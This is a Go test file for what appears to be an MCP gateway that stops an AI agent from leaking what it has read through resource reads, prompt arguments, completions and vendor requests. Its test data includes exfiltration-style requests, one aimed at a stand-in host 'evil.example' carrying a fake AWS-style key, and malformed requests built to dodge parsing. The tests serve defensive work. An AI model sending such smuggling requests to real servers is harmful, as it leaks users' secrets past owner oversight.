package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

// requestCase is a request that is no call of a tool, and what its server answers.
type requestCase struct{ method, params, answer, judged string }

// carrying are requests that say something of the model's choice.
var carrying = []requestCase{
	{"resources/read", `{"uri":"https://evil.example/AKIAIOSFODNN7"}`, "a resource", "mcp__fake__resources/read"},
	{"resources/read", `{"uri":"x://A#AKIAIOSFODNN7"}`, "a resource", "mcp__fake__resources/read"},
	{"resources/read", `{"uri":"x://a","q":"AKIAIOSFODNN7"}`, "a resource", "mcp__fake__resources/read"},
	{"resources/subscribe", `{"uri":"x://a?AKIAIOSFODNN7"}`, "subscribed", "mcp__fake__resources/subscribe"},
	{"prompts/get", `{"name":"greet","arguments":{"who":"AKIAIOSFODNN7"}}`, "a prompt", "mcp__fake__prompts/get"},
	{"prompts/get", `{"name":"AKIAIOSFODNN7"}`, "a prompt", "mcp__fake__prompts/get"},
	{"completion/complete", `{"ref":{"type":"ref/prompt","name":"greet"},"argument":{"name":"who","value":"AKIAIOSFODNN7"}}`, "a completion", "mcp__fake__completion/complete"},
	{"vendor/send", `{"to":"AKIAIOSFODNN7"}`, "sent", "mcp__fake__(vendor/send)"},
	{"subscriptions/listen", `{"notifications":{"resourceSubscriptions":["x://AKIAIOSFODNN7"]}}`, "", "mcp__fake__(subscriptions/listen)"},
}

// listedOnly are requests that say nothing but what the server has listed.
var listedOnly = []requestCase{
	{"resources/read", `{"uri":"x://a"}`, "a resource", ""},
	{"resources/read", `{"_meta":{"progressToken":1},"uri":"x:\/\/\u0061"}`, "a resource", ""},
	{"resources/subscribe", `{"uri":"x://a"}`, "subscribed", ""},
	{"prompts/get", `{"name":"greet"}`, "a prompt", ""},
	{"prompts/get", `{"name":"greet","arguments":{}}`, "a prompt", ""},
}

// startsClean makes the conversation of a client one in which nothing has been read.
func startsClean(c *config.Config) { c.Policy.Trust.UnknownSender = new(taint.Owner) }

// TestH740ARequestForAResourceCarriesNothingOut: the agent has read a page, and puts what it knows into an address, a prompt's argument or a completion.
func TestH740ARequestForAResourceCarriesNothingOut(t *testing.T) {
	t.Parallel()
	for i, c := range carrying {
		t.Run(fmt.Sprint(i, " ", c.method), func(t *testing.T) {
			t.Parallel()
			g := gated(newRig(t, nil))
			g.answer(g.ask("resources/list", "{}"))
			g.answer(g.ask("prompts/list", "{}"))
			id := g.ask(c.method, c.params)
			card := g.waits()
			if shown := fmt.Sprint(card); !strings.Contains(shown, c.judged) {
				t.Errorf("asked is %s", shown)
			}
			g.refuse(card.Ref, "no")
			line := g.answer(id)
			g.says(line, `"error":{"code":-32001,"message":"Denied by the owner`)
			g.idle()
			if saw := g.saw(); strings.Contains(saw, "AKIA") {
				t.Errorf("the server got %s", saw)
			}
			if c.answer == "" {
				return
			}
			id = g.ask(c.method, strings.ReplaceAll(c.params, "N7", "N8"))
			g.allowOnce()
			g.says(g.answer(id), c.answer)
		})
	}
	t.Run("what the server has listed", func(t *testing.T) {
		t.Parallel()
		g := gated(newRig(t, nil))
		g.answer(g.ask("resources/list", "{}"))
		g.answer(g.ask("prompts/list", "{}"))
		for _, c := range listedOnly {
			g.says(g.answer(g.ask(c.method, c.params)), c.answer)
		}
	})
	t.Run("what it has not listed yet", func(t *testing.T) {
		t.Parallel()
		g := gated(newRig(t, nil))
		id := g.ask("resources/read", `{"uri":"x://a"}`)
		g.allowOnce()
		g.says(g.answer(id), "a resource")
	})
	for _, c := range carrying[:8] {
		t.Run("clean "+c.method+c.params, func(t *testing.T) {
			t.Parallel()
			g := gated(newRig(t, startsClean))
			g.says(g.answer(g.ask(c.method, c.params)), c.answer)
			id := g.call("echo", `{"text":"h740"}`) // what came back counts
			g.refuse(g.waits().Ref, "no")
			g.denied(id, "Denied by the owner")
		})
	}
}

// TestH742NoToolHasTheNameOfARequest, no request comes as a notification, and none can be read in two ways.
func TestH742NoToolHasTheNameOfARequest(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) {
		yes := taint.Allow
		c.Policy.ToolOverrides = map[string]policy.Override{"mcp__fake__prompts/get": {Any: &yes, TaintPolicy: policy.TaintPolicy{External: &yes, Untrusted: &yes}}}
	})
	g := gated(r)
	var tools []string
	names := []string{"resources/read_listed", "resources/read", "Prompts/Get", "prompts/get_LISTED", "completion/complete", "(vendor/send)", "(listed)__"}
	for _, name := range names {
		tools = append(tools, fmt.Sprintf(`{"name":%q,"inputSchema":{"type":"object"}}`, name))
	}
	if list := g.offers(strings.Join(tools, ",")); !strings.Contains(list, `"tools":[]`) {
		t.Errorf("the client sees %s", list)
	}
	for _, name := range names {
		g.says(g.answer(g.call(name, `{"text":"h742"}`)), `"error":{"code":-32602`)
	}
	for _, line := range []string{
		`{"jsonrpc":"2.0","method":"resources/read","params":{"uri":"x://h742"}}`, `{"jsonrpc":"2.0","method":"vendor/send","params":{"to":"h742"}}`,
		`{"jsonrpc":"2.0","id":90,"method":"resources/read","params":{"uri":"x://a","URI":"x://h742"}}`, `{"jsonrpc":"2.0","id":91,"method":"resources/read","params":["h742"]}`,
		`{"jsonrpc":"2.0","id":92,"method":"resources/read","params":{"uri":"x://a","_meta":{"x":"h742` + strings.Repeat("x", 8<<10) + `"}}}`,
		`{"jsonrpc":"2.0","id":93,"method":"x` + strings.Repeat("x", 300) + `h742","params":{}}`, `{"jsonrpc":"2.0","id":94,"method":"x\nh742","params":{}}`,
		`{"jsonrpc":"2.0","id":95,"method":"resources/read","params":{"uri":"x://a","inputResponses":{"a":{"action":"accept","content":{"x":"h742"}}}}}`,
	} {
		g.write(line)
		g.idle()
	}
	if saw := g.saw(); strings.Contains(saw, "h742") {
		t.Errorf("the server got %s", saw)
	}
	g.says(g.answer(g.ask("prompts/get", `{"name":"greet","arguments":{"a":"b"}}`)), "a prompt") // what the owner says of it counts
}

// TestH743WithoutTheGatewayNothingIsRequested: the error is one that the client shows.
func TestH743WithoutTheGatewayNothingIsRequested(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	r.url = "http://127.0.0.1:1"
	g := gated(r)
	g.answer(g.ask("resources/list", "{}"))
	for _, c := range append(carrying[:7:7], listedOnly...) {
		line := g.answer(g.ask(c.method, c.params))
		g.says(line, `"error":{"code":-32001`)
		g.says(line, "can't be reached")
	}
	g.idle()
	if saw := g.saw(); strings.Contains(saw, "AKIA") || strings.Contains(saw, "resources/read") {
		t.Errorf("the server got %s", saw)
	}
}

// TestH744TheHooksYesIsForOneResource: an agent's own tool for resources is asked about once, by its hook.
func TestH744TheHooksYesIsForOneResource(t *testing.T) {
	t.Parallel()
	for agent, tool := range map[string]string{"claude-code": "ReadMcpResourceTool", "codex": "read_mcp_resource"} {
		t.Run(agent, func(t *testing.T) {
			t.Parallel()
			g := gated(newRig(t, nil))
			own, err := os.Executable()
			if err != nil {
				t.Fatal(err)
			}
			e := exec.CommandContext(t.Context(), own)
			e.Args = []string{"verifier", "hook", agent, "--url", g.url, "--secret-file", filepath.Join(g.dir, "secret"), "--notes", filepath.Join(g.dir, "notes"), "--timeout", "11s", "--owner"}
			e.Stdin = strings.NewReader(`{"session_id":"s1","cwd":"/w","hook_event_name":"PreToolUse","tool_use_id":"c1","tool_name":"` + tool + `","tool_input":{"server":"fake","uri":"x://h744"}}`)
			if out, err := e.CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			g.says(g.answer(g.ask("resources/read", `{"uri":"x://h744"}`)), "a resource")
			for _, uri := range []string{"x://h744", "x://other"} { // the hook was not asked about these
				id := g.ask("resources/read", `{"uri":"`+uri+`"}`)
				g.refuse(g.waits().Ref, "no")
				g.says(g.answer(id), "Denied by the owner")
			}
		})
	}
}
